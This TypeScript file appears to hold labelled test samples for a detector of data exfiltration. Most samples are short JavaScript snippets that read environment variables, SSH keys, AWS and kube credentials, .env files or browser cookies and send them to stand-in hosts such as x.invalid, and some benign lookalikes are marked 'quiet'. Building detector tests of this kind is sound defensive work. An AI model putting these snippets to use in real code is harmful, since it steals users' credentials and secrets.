import type { Sample } from "../sample.ts";

/** Private data that goes out, in one file and across files; `quiet` for what only looks like it. */
export const FLOWS: readonly Sample[] = [
  ["leaves", { "scripts/a.mjs": `await fetch("https://x.invalid", { method: "POST", body: JSON.stringify(process.env) });` }],
  ["leaves", { "scripts/a.mjs": `const e = { ...process.env }; const b = btoa(JSON.stringify(e)); await fetch("https://x.invalid/?d=" + b);` }],
  [
    "leaves",
    {
      "scripts/a.mjs": `import { readFileSync as r } from "node:fs"; import os from "node:os"; const k = r(os.homedir() + "/.ssh/id_rsa", "utf8"); await fetch("https://x.invalid", { method: "POST", body: k });`,
    },
  ],
  [
    "leaves",
    {
      "scripts/a.mjs": `import fs from "node:fs"; import https from "node:https"; const data = fs.readFileSync("/home/u/.aws/credentials"); const req = https.request({ hostname: "x.invalid", method: "POST" }); req.write(data); req.end();`,
    },
  ],
  [
    "leaves",
    {
      "scripts/a.mjs": `import fs from "node:fs"; fs.readFile("/home/u/.ssh/id_rsa", (err, data) => { fetch("https://x.invalid", { method: "POST", body: data }); });`,
    },
  ],
  [
    "leaves",
    {
      "scripts/a.mjs": `import fs from "node:fs/promises"; fs.readFile("/home/u/.netrc", "utf8").then((t) => t.trim()).then((t) => fetch("https://x.invalid/" + t));`,
    },
  ],
  [
    "leaves",
    {
      "scripts/a.mjs": `function collect() { const out = {}; for (const k in process.env) out[k] = process.env[k]; return out; } async function send(data) { await fetch("https://x.invalid", { method: "POST", body: JSON.stringify(data) }); } send(collect());`,
    },
  ],
  [
    "leaves",
    {
      "scripts/a.mjs":
        'const rows = Object.entries(process.env).map(([k, v]) => k + "=" + v).join("\\n"); await fetch("https://x.invalid", { method: "POST", body: rows });',
    },
  ],
  ["leaves", { "scripts/a.mjs": `import axios from "axios"; const payload = { env: process.env }; await axios.post("https://x.invalid", payload);` }],
  [
    "leaves",
    {
      "scripts/a.mjs": `import { createReadStream } from "node:fs"; import https from "node:https"; createReadStream("/home/u/.aws/credentials").pipe(https.request("https://x.invalid", { method: "POST" }));`,
    },
  ],
  ["leaves", { "scripts/a.mjs": "console.log(JSON.stringify(process.env));" }],
  ["leaves", { "scripts/a.mjs": `import fs from "node:fs"; console.log(fs.readFileSync("/home/u/.ssh/id_ed25519", "utf8"));` }],
  ["leaves", { "scripts/a.mjs": `const key = process.env.API_TOKEN; await fetch("https://collect.example.com/", { method: "POST", body: key });` }],
  [
    "leaves",
    {
      "scripts/a.mjs": `const secret = Buffer.from(JSON.stringify(Object.assign({}, process.env))).toString("base64"); const u = new URL("https://x.invalid"); u.searchParams.set("d", secret); await fetch(u);`,
    },
  ],
  [
    "leaves",
    {
      "scripts/a.mjs": `import fs from "node:fs"; const parts = []; for (const f of ["/home/u/.ssh/id_rsa", "/home/u/.aws/credentials"]) parts.push(fs.readFileSync(f, "utf8")); await fetch("https://x.invalid", { body: parts.join(""), method: "POST" });`,
    },
  ],
  [
    "leaves",
    {
      "scripts/a.mjs": `class A { constructor() { this.d = process.env; } async go() { await fetch("https://x.invalid", { method: "POST", body: JSON.stringify(this.d) }); } } new A().go();`,
    },
  ],
  ["leaves", { "scripts/a.mjs": `const ws = new WebSocket("wss://x.invalid"); ws.onopen = () => ws.send(JSON.stringify(process.env));` }],
  [
    "leaves",
    {
      "scripts/a.mjs": `import fs from "node:fs"; const f = new FormData(); f.append("file", new Blob([fs.readFileSync("/root/.ssh/id_rsa")])); await fetch("https://x.invalid", { method: "POST", body: f });`,
    },
  ],
  [
    "leaves",
    { "scripts/a.mjs": `const { env } = process; const copy = structuredClone(env); navigator.sendBeacon("https://x.invalid", JSON.stringify(copy));` },
  ],
  [
    "leaves",
    {
      "scripts/a.mjs": `import { readFile } from "node:fs/promises"; const [a] = await Promise.all([readFile("/root/.kube/config", "utf8")]); await fetch("https://x.invalid", { method: "POST", body: a });`,
    },
  ],
  ["leaves", { "scripts/a.mjs": `new Image().src = "https://x.invalid/?c=" + document.cookie;` }],
  ["leaves", { "scripts/a.mjs": `const x = new XMLHttpRequest(); x.open("POST", "https://x.invalid"); x.send(document.cookie);` }],
  [
    "leaves",
    {
      "scripts/a.mjs": `import fs from "node:fs"; const env = fs.readFileSync(".env", "utf8"); await fetch("https://x.invalid", { method: "POST", body: env });`,
    },
  ],
  [
    "leaves",
    {
      "scripts/a.mjs": `import fs from "node:fs"; const read = (p) => fs.readFileSync(p, "utf8"); const send = (d) => fetch("https://x.invalid", { method: "POST", body: d }); send(read("/root/.ssh/id_rsa"));`,
    },
  ],
  [
    "leaves",
    {
      "scripts/a.mjs": `import { secret } from "./b.mjs"; await fetch("https://x.invalid", { method: "POST", body: secret });`,
      "scripts/b.mjs": `import fs from "node:fs"; export const secret = fs.readFileSync("/root/.ssh/id_rsa", "utf8");`,
    },
  ],
  [
    "leaves",
    {
      "scripts/a.mjs": `import { send } from "./b.mjs"; send(JSON.stringify(process.env));`,
      "scripts/b.mjs": `export async function send(d) { await fetch("https://x.invalid", { method: "POST", body: d }); }`,
    },
  ],
  [
    "leaves",
    {
      "scripts/a.cjs": `const { collect } = require("./b.cjs"); fetch("https://x.invalid", { method: "POST", body: collect() });`,
      "scripts/b.cjs": "function collect() { return JSON.stringify(process.env); } module.exports = { collect };",
    },
  ],
  [
    "quiet",
    { "scripts/a.mjs": `const k = process.env.OPENAI_API_KEY; await fetch("https://api.openai.com/v1/x", { headers: { Authorization: "Bearer " + k } });` },
  ],
  [
    "quiet",
    {
      "scripts/a.mjs": `import fs from "node:fs"; const creds = JSON.parse(fs.readFileSync("/home/u/.config/x/credentials.json", "utf8")); await fetch("https://x.invalid", { headers: { Authorization: "Bearer " + creds.access_token } });`,
    },
  ],
  [
    "quiet",
    {
      "scripts/a.mjs": `const body = JSON.stringify({ client_id: process.env.CLIENT_ID, client_secret: process.env.CLIENT_SECRET }); await fetch("https://x.invalid/token", { method: "POST", body });`,
    },
  ],
  [
    "quiet",
    {
      "scripts/a.mjs":
        'import fs from "node:fs"; const env = Object.fromEntries(fs.readFileSync(".env", "utf8").split("\\n").map((l) => l.split("="))); await fetch("https://x.invalid", { headers: { a: env.API_KEY } });',
    },
  ],
  ["quiet", { "scripts/a.mjs": `if (!process.env.API_KEY) { console.error("API_KEY is missing"); process.exit(1); } console.log(Object.keys({}).length);` }],
  ["quiet", { "scripts/a.mjs": `import fs from "node:fs"; console.log(fs.existsSync("/home/u/.ssh/id_rsa"));` }],
  ["quiet", { "scripts/a.mjs": `const url = "https://api.x.invalid/?key=" + process.env.X_KEY; const r = await fetch(url); console.log(await r.text());` }],
];
